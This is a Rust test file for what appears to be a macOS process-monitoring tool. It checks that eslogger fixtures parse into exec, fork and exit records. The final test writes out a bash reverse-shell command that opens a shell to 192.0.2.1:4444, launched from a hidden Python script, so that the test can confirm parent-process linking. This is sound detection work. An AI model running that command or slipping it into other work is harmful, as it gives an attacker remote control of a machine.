//! The hand-constructed eslogger fixtures (`tests/fixtures/macos/`, see its README) read into
//! exactly the records written out below, every field spelled by hand.

use std::fs::File;
use std::io::BufReader;
use std::path::PathBuf;

use execsentry_macos::{
    AuditToken, EsRecord, EsloggerReader, Event, Exec, Exit, Fork, Header, Process, ProcessKey,
    ReaderStats,
};

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures/macos")
        .join(name)
}

/// Reads a fixture; every line must become a record.
fn read(name: &str) -> Vec<EsRecord> {
    let file = File::open(fixture(name)).unwrap();
    let mut reader = EsloggerReader::new(BufReader::new(file));
    let records: Vec<EsRecord> = reader
        .by_ref()
        .map(|r| r.unwrap_or_else(|e| panic!("{name}: {e}")))
        .collect();
    let stats = reader.stats();
    assert_eq!(
        stats,
        ReaderStats {
            lines: records.len() as u64,
            records: records.len() as u64,
            blank: 0,
            other_events: 0,
            errors: 0,
        }
    );
    records
}

/// Seconds since the epoch (from `date -u -d … +%s`) plus nanoseconds.
const fn ns(secs: i64, nanos: i64) -> i64 {
    secs * 1_000_000_000 + nanos
}

const T_10_15_00: i64 = 1_772_446_500;
const T_10_00_01: i64 = 1_772_445_601;
const T_11_00_00: i64 = 1_772_449_200;
const T_09_00_00: i64 = 1_772_442_000;
const T_10_20_00: i64 = 1_772_446_800;
const T_10_25_00: i64 = 1_772_447_100;
const T_10_30_00: i64 = 1_772_447_400;
const T_10_30_02: i64 = 1_772_447_402;
const T_10_30_09: i64 = 1_772_447_409;

/// alice in Terminal: auid 501, asid 100019.
fn alice(pid: u32, pidversion: u32, euid: u32) -> AuditToken {
    AuditToken {
        auid: 501,
        euid,
        egid: 20,
        ruid: 501,
        rgid: 20,
        pid,
        asid: 100_019,
        pidversion,
    }
}

const fn key(pid: u32, pidversion: u32) -> ProcessKey {
    ProcessKey { pid, pidversion }
}

const TERMINAL: ProcessKey = key(900, 2400);
const CDHASH: [u8; 20] = [
    0x3C, 0x6F, 0x1A, 0x0E, 0x5B, 0x2D, 0x4C, 0x8F, 0x9A, 0x7E, 0x6D, 0x5C, 0x4B, 0x3A, 0x29, 0x18,
    0x0F, 0x1E, 0x2D, 0x3C,
];
/// `CS_SIGNED | CS_VALID` with Apple's other bits, as written in the fixtures.
const CS_PLATFORM: u32 = 0x2200_0001;

/// A platform binary run by alice on /dev/ttys002 in session 4100.
#[allow(clippy::too_many_arguments)]
fn platform_process(
    token: AuditToken,
    ppid: u32,
    parent: ProcessKey,
    group_id: u32,
    executable: &str,
    signing_id: &str,
    cdhash: Option<[u8; 20]>,
    start_time_ns: i64,
) -> Process {
    Process {
        token,
        ppid,
        original_ppid: ppid,
        parent: Some(parent),
        responsible: Some(TERMINAL),
        group_id,
        session_id: 4100,
        executable: executable.into(),
        executable_truncated: false,
        signing_id: Some(signing_id.into()),
        team_id: None,
        cdhash,
        codesigning_flags: CS_PLATFORM,
        is_platform_binary: true,
        is_es_client: false,
        tty: Some("/dev/ttys002".into()),
        start_time_ns: Some(start_time_ns),
    }
}

fn header(time_ns: i64, seq_num: u64, global_seq_num: u64, mach_time: u64, thread: u64) -> Header {
    Header {
        version: 9,
        time_ns,
        mach_time: Some(mach_time),
        seq_num: Some(seq_num),
        global_seq_num: Some(global_seq_num),
        thread_id: Some(thread),
    }
}

fn strings(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

#[test]
fn exec_fork_exit() {
    let got = read("exec_fork_exit.ndjson");
    let zsh_start = ns(T_10_00_01, 250_000_000);
    let child_start = ns(T_10_15_00, 100_100_000);
    let shell = platform_process(
        alice(4100, 9100, 501),
        4099,
        key(4099, 9099),
        4100,
        "/bin/zsh",
        "com.apple.zsh",
        Some(CDHASH),
        zsh_start,
    );
    let child = platform_process(
        alice(4200, 9201, 501),
        4100,
        key(4100, 9100),
        4200,
        "/bin/zsh",
        "com.apple.zsh",
        Some(CDHASH),
        child_start,
    );
    let ls = platform_process(
        alice(4200, 9202, 501),
        4100,
        key(4100, 9100),
        4200,
        "/bin/ls",
        "com.apple.ls",
        None, // all-zero cdhash in the fixture
        child_start,
    );
    let want = vec![
        EsRecord {
            header: header(ns(T_10_15_00, 100_200_300), 40, 201, 500_000_000_100, 70001),
            process: shell,
            event: Event::Fork(Fork {
                child: child.clone(),
            }),
        },
        EsRecord {
            header: header(ns(T_10_15_00, 102_000_000), 77, 202, 500_000_000_200, 70002),
            process: child,
            event: Event::Exec(Exec {
                target: ls.clone(),
                args: strings(&["ls", "-la", "/tmp"]),
                args_truncated: false,
                cwd: Some("/Users/alice".into()),
                script: None,
            }),
        },
        EsRecord {
            header: header(ns(T_10_15_00, 110_000_000), 51, 203, 500_000_000_300, 70002),
            process: ls,
            event: Event::Exit(Exit { stat: 256 }),
        },
    ];
    assert_eq!(got, want);
    let Event::Exit(exit) = &got[2].event else {
        unreachable!()
    };
    assert_eq!((exit.exit_code(), exit.signal()), (Some(1), None));
}

#[test]
fn array_tokens_version_10() {
    let got = read("array_tokens_v10.ndjson");
    // [auid, euid, egid, ruid, rgid, pid, asid, pidversion]
    let token = |pid, pidversion| AuditToken {
        auid: 501,
        euid: 501,
        egid: 20,
        ruid: 501,
        rgid: 20,
        pid,
        asid: 100_019,
        pidversion,
    };
    let app_path = "/Applications/Acme Sync.app/Contents/MacOS/Acme Sync";
    let app = |t: AuditToken, ppid: u32, parent: ProcessKey, start: i64| Process {
        token: t,
        ppid,
        original_ppid: ppid,
        parent: Some(parent),
        responsible: Some(key(7001, 31000)),
        group_id: 7001,
        session_id: 1,
        executable: app_path.into(),
        executable_truncated: false,
        signing_id: Some("com.example.acme.sync".into()),
        team_id: Some("ACME123456".into()),
        cdhash: Some(CDHASH),
        codesigning_flags: 0x2201_0301,
        is_platform_binary: false,
        is_es_client: false,
        tty: None,
        start_time_ns: Some(start),
    };
    let child_start = ns(T_11_00_00, 500_000);
    let parent = app(token(7001, 31000), 1, key(1, 1), ns(T_09_00_00, 1_000));
    let child = app(token(7002, 31001), 7001, key(7001, 31000), child_start);
    let curl = Process {
        token: token(7002, 31002),
        ppid: 7001,
        original_ppid: 7001,
        parent: Some(key(7001, 31000)),
        responsible: Some(key(7001, 31000)),
        group_id: 7001,
        session_id: 1,
        executable: "/usr/bin/curl".into(),
        executable_truncated: false,
        signing_id: Some("com.apple.curl".into()),
        team_id: None,
        cdhash: Some(CDHASH),
        codesigning_flags: CS_PLATFORM,
        is_platform_binary: true,
        is_es_client: false,
        tty: None,
        start_time_ns: Some(child_start),
    };
    let h = |time_ns, global, mach, thread| Header {
        version: 10,
        time_ns,
        mach_time: Some(mach),
        seq_num: Some(0),
        global_seq_num: Some(global),
        thread_id: Some(thread),
    };
    let want = vec![
        EsRecord {
            header: h(ns(T_11_00_00, 600_000), 1, 600_000_000_100, 80001),
            process: parent,
            event: Event::Fork(Fork {
                child: child.clone(),
            }),
        },
        EsRecord {
            header: h(ns(T_11_00_00, 1_000_000), 2, 600_000_000_200, 80002),
            process: child,
            event: Event::Exec(Exec {
                target: curl.clone(),
                args: strings(&["/usr/bin/curl", "-fsS", "https://updates.example.com/check"]),
                args_truncated: false,
                cwd: Some("/".into()),
                script: None,
            }),
        },
        EsRecord {
            header: h(ns(T_11_00_00, 250_000_000), 3, 600_000_000_300, 80002),
            process: curl,
            event: Event::Exit(Exit { stat: 0 }),
        },
    ];
    assert_eq!(got, want);
}

#[test]
fn setuid_exec_raises_euid_only() {
    let got = read("setuid_exec.ndjson");
    let start = ns(T_10_20_00, 0);
    let zsh = platform_process(
        alice(4300, 9301, 501),
        4100,
        key(4100, 9100),
        4300,
        "/bin/zsh",
        "com.apple.zsh",
        Some(CDHASH),
        start,
    );
    let sudo = platform_process(
        alice(4300, 9302, 0),
        4100,
        key(4100, 9100),
        4300,
        "/usr/bin/sudo",
        "com.apple.sudo",
        Some(CDHASH),
        start,
    );
    let want = vec![EsRecord {
        header: header(ns(T_10_20_00, 1_000_000), 80, 210, 500_000_010_000, 70010),
        process: zsh,
        event: Event::Exec(Exec {
            target: sudo,
            args: strings(&["sudo", "id"]),
            args_truncated: false,
            cwd: Some("/Users/alice".into()),
            script: None,
        }),
    }];
    assert_eq!(got, want);
    let Event::Exec(exec) = &got[0].event else {
        unreachable!()
    };
    assert_eq!((exec.target.token.ruid, exec.target.token.euid), (501, 0));
    assert_eq!(
        (got[0].process.token.ruid, got[0].process.token.euid),
        (501, 501)
    );
    assert_eq!(
        exec.target.key(),
        key(4300, 9302),
        "same pid, new pidversion"
    );
}

#[test]
fn script_exec_names_the_script() {
    let got = read("script_exec.ndjson");
    let start = ns(T_10_25_00, 0);
    let want = vec![EsRecord {
        header: header(ns(T_10_25_00, 2_000_000), 81, 211, 500_000_020_000, 70011),
        process: platform_process(
            alice(4400, 9401, 501),
            4100,
            key(4100, 9100),
            4400,
            "/bin/zsh",
            "com.apple.zsh",
            Some(CDHASH),
            start,
        ),
        event: Event::Exec(Exec {
            target: platform_process(
                alice(4400, 9402, 501),
                4100,
                key(4100, 9100),
                4400,
                "/bin/sh",
                "com.apple.sh",
                Some(CDHASH),
                start,
            ),
            args: strings(&["/bin/sh", "/Users/alice/bin/backup.sh", "--full"]),
            args_truncated: false,
            cwd: Some("/Users/alice/Documents".into()),
            script: Some("/Users/alice/bin/backup.sh".into()),
        }),
    }];
    assert_eq!(got, want);
}

#[test]
fn reverse_shell_links_to_its_parents_exec() {
    let got = read("reverse_shell.ndjson");
    let py_start = ns(T_10_30_00, 0);
    let child_start = ns(T_10_30_02, 0);
    let zsh = platform_process(
        alice(5000, 12000, 501),
        4100,
        key(4100, 9100),
        5000,
        "/bin/zsh",
        "com.apple.zsh",
        Some(CDHASH),
        py_start,
    );
    let python = platform_process(
        alice(5000, 12001, 501),
        4100,
        key(4100, 9100),
        5000,
        "/usr/bin/python3",
        "com.apple.python3",
        Some(CDHASH),
        py_start,
    );
    let python_child = platform_process(
        alice(5001, 12002, 501),
        5000,
        key(5000, 12001),
        5000,
        "/usr/bin/python3",
        "com.apple.python3",
        Some(CDHASH),
        child_start,
    );
    let bash = platform_process(
        alice(5001, 12003, 501),
        5000,
        key(5000, 12001),
        5000,
        "/bin/bash",
        "com.apple.bash",
        Some(CDHASH),
        child_start,
    );
    let want = vec![
        EsRecord {
            header: header(ns(T_10_30_00, 3_000_000), 82, 220, 500_000_030_000, 70020),
            process: zsh,
            event: Event::Exec(Exec {
                target: python.clone(),
                args: strings(&["python3", "/tmp/.cache/update.py"]),
                args_truncated: false,
                cwd: Some("/Users/alice".into()),
                script: None,
            }),
        },
        EsRecord {
            header: header(ns(T_10_30_02, 100_000), 41, 221, 500_000_040_000, 70021),
            process: python,
            event: Event::Fork(Fork {
                child: python_child.clone(),
            }),
        },
        EsRecord {
            header: header(ns(T_10_30_02, 1_000_000), 83, 222, 500_000_040_100, 70022),
            process: python_child,
            event: Event::Exec(Exec {
                target: bash.clone(),
                args: strings(&["/bin/bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]),
                args_truncated: false,
                cwd: Some("/Users/alice".into()),
                script: None,
            }),
        },
        EsRecord {
            header: header(ns(T_10_30_09, 0), 52, 223, 500_000_050_000, 70022),
            process: bash,
            event: Event::Exit(Exit { stat: 9 }),
        },
    ];
    assert_eq!(got, want);

    // What the process table needs: the bash exec's parent key is the python exec's target key,
    // seen two records earlier.
    let (Event::Exec(first), Event::Exec(shell)) = (&got[0].event, &got[2].event) else {
        unreachable!()
    };
    assert_eq!(shell.target.parent, Some(first.target.key()));
    let Event::Exit(exit) = &got[3].event else {
        unreachable!()
    };
    assert_eq!((exit.exit_code(), exit.signal()), (None, Some(9)));
}
